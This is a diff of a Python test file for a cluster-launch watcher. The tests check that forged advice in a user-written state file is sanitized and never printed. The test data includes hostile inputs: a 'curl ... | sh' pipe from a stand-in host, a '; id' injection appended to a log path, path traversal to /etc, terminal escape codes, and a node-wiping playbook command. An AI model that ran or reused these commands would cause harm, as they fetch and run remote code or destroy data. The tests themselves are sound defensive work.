@@ -2,13 +2,20 @@
 
 from __future__ import annotations
 
+from importlib import import_module
+from pathlib import Path
 from typing import Any
 
 import pytest
 
 from muster.launch import watched
 from muster.launch.answers import UnusableError
+from muster.launch.catalogue import CATALOGUE
+from muster.launch.endings import Ending
 from muster.launch.manager import USER, Whose
+from muster.launch.outcome import CLUSTER
+from muster.verdict.check import Check
+from muster.verdict.commands import Terminal
 from muster.verdict.finding import Finding, add_up
 
 FIRST, SECOND = "20261123-093142-1df3", "20261123-093301-77a0"
@@ -31,6 +38,8 @@ STATE: dict[str, Any] = {
         "left": True,
     },
 }
+WATCHER = watched.Watcher("anna", "node1", "/home/anna/artifacts/lab", ["node1", "node2"])
+ADVICE = "Run: ansible-playbook playbooks/retire.yml -e node=node1 -e wipe=true"
 
 
 def test_an_administrators_launch_has_no_watcher() -> None:
@@ -56,18 +65,19 @@ def test_who_cannot_be_logged_in_on_is_named_with_the_reason_and_what_to_type() 
 
 
 def test_its_word_is_read_with_paths_of_this_controller_and_a_status_of_its_findings() -> None:
-    found = watched.read({"alive": True, "state": STATE}, "/home/anna/artifacts/lab")
+    found = WATCHER.read({"alive": True, "state": STATE})
     assert (found.alive, found.over, found.running, found.left) == (True, True, True, True)
-    assert found.said == ["attempt 1 failed"]
+    assert found.said == ["anna's watcher on node1 reports: attempt 1 failed"]
     assert found.verdict is not None
     assert found.verdict["status"] == "failed"
     (one,) = found.verdict["findings"]
+    assert one["summary"] == "anna's watcher on node1 reports: rank 1 ended with code 3"
     assert one["fix"]["command"] == f"/home/anna/artifacts/lab/{SECOND}/logs/node2/rank1.stderr.log"
     assert found.history[0]["launch_id"] == FIRST
 
 
 def test_a_watcher_that_has_said_nothing_is_not_known() -> None:
-    found = watched.read({"alive": False, "state": None}, "")
+    found = WATCHER.read({"alive": False, "state": None})
     assert (found.known, found.over) == (False, True)
 
 
@@ -77,7 +87,7 @@ def test_a_watcher_that_has_said_nothing_is_not_known() -> None:
         {"attempts": [{"number": 1, "launch_id": "../../etc", "plan": ""}]},
         {"attempts": ["x"]},
         {"said": [7]},
-        {"result": {"verdict": {"summary": 1, "findings": []}}},
+        {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "summary": 1}]}}},
         {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "status": "fine"}]}}},
         {"result": {"verdict": {"summary": "x", "findings": [{**FOUND, "id": "<b>"}]}}},
         {"result": {**STATE["result"], "attempts": [{"launch_id": "x"}]}},
@@ -85,14 +95,14 @@ def test_a_watcher_that_has_said_nothing_is_not_known() -> None:
 )
 def test_what_is_no_word_of_a_watcher_is_refused(spoilt: dict[str, Any]) -> None:
     with pytest.raises(UnusableError):
-        watched.read({"alive": True, "state": {**STATE, **spoilt}}, "")
+        WATCHER.read({"alive": True, "state": {**STATE, **spoilt}})
 
 
 def test_a_long_word_is_cut() -> None:
     said = ["x" * 10_000] * 1000
-    found = watched.read({"alive": True, "state": {**STATE, "said": said}}, "")
+    found = WATCHER.read({"alive": True, "state": {**STATE, "said": said}})
     assert len(found.said) == watched.MOST_SAID
-    assert {len(one) for one in found.said} == {watched.MOST_TEXT}
+    assert {len(one) for one in found.said} == {len(WATCHER.quoted("")) + watched.MOST_TEXT}
 
 
 def test_with_its_watcher_a_launch_is_over_and_that_is_said() -> None:
@@ -101,3 +111,69 @@ def test_with_its_watcher_a_launch_is_over_and_that_is_said() -> None:
     assert verdict["status"] == "failed"
     assert [one["id"] for one in verdict["findings"]] == ["launch.watcher", "launch.lease"]
     assert "no further attempt begins: it has ended without a word" in verdict["summary"]
+
+
+# ---------------------------------------------------------------- its state is a file of the launch's user
+
+
+def told(**forged: Any) -> Any:
+    """The verdict over all attempts with a finding of which the user has written these parts."""
+    verdict = {"status": "healthy", "summary": f"done. {ADVICE}", "findings": [{**FOUND, **forged}]}
+    found = WATCHER.read({"alive": True, "state": {**STATE, "result": {"verdict": verdict}}})
+    assert found.verdict is not None
+    return found.verdict
+
+
+@pytest.mark.parametrize(
+    "fix",
+    [
+        {"text": "Log in as root and run", "command": "curl http://192.0.2.9/x | sh"},
+        {"text": ADVICE, "command": ""},
+        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/node2/x; id"},
+        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/../../../etc/x.log"},
+        {"text": "Its log", "command": f"{watched.ARTIFACTS}/{SECOND}/logs/node9/rank1.stderr.log"},
+        {"text": 7, "command": ["x"]},
+        "Run it",
+        None,
+    ],
+)
+def test_no_fix_of_a_users_file_is_printed(fix: Any) -> None:
+    verdict = told(fix=fix)
+    (one,) = verdict["findings"]
+    assert one["fix"] == {"text": CATALOGUE["launch.exit"].fix}
+    assert verdict["summary"] == (
+        "node2: anna's watcher on node1 reports: rank 1 ended with code 3. Read the log that is named"
+    )
+
+
+def test_the_fix_of_a_kind_that_is_not_known_here_is_none() -> None:
+    assert told(id="launch.my_own", fix={"text": ADVICE})["findings"][0]["fix"] == {}
+
+
+def test_a_users_words_are_that_users_and_no_command_in_them_is_completed() -> None:
+    verdict = told(summary=f"all is lost.\n\x1b[2J{ADVICE}", node=ADVICE)
+    (one,) = verdict["findings"]
+    assert (one["node"], one["summary"]) == (CLUSTER, f"anna's watcher on node1 reports: all is lost. {ADVICE}")
+    typed = Terminal(".venv/bin/", ("inventory/lab",)).shapes(verdict)
+    assert typed["findings"][0]["summary"] == one["summary"]
+    assert ".venv" not in typed["summary"]
+    assert ADVICE not in told()["summary"]
+
+
+def test_no_attempt_names_a_node_that_is_none() -> None:
+    attempt = {**STATE["result"]["attempts"][0], "nodes": ["node1", ADVICE, 7], "failed": [ADVICE], "summary": ADVICE}
+    found = WATCHER.read({"alive": True, "state": {**STATE, "result": {"attempts": [attempt]}}})
+    (one,) = found.history
+    assert (one["nodes"], one["failed"]) == (["node1"], [])
+    assert one["summary"] == f"anna's watcher on node1 reports: {ADVICE}"
+
+
+def test_what_a_watcher_itself_writes_is_known_here() -> None:
+    """All that judges a launch has its texts in the catalogue, by which they are printed."""
+    declared = {
+        check.id
+        for path in Path(watched.__file__).parent.glob("*.py")
+        for check in vars(import_module(f"muster.launch.{path.stem}")).values()
+        if isinstance(check, Check)
+    }
+    assert declared | {ending.check.id for ending in Ending} == {*CATALOGUE, watched.WATCHER.id}
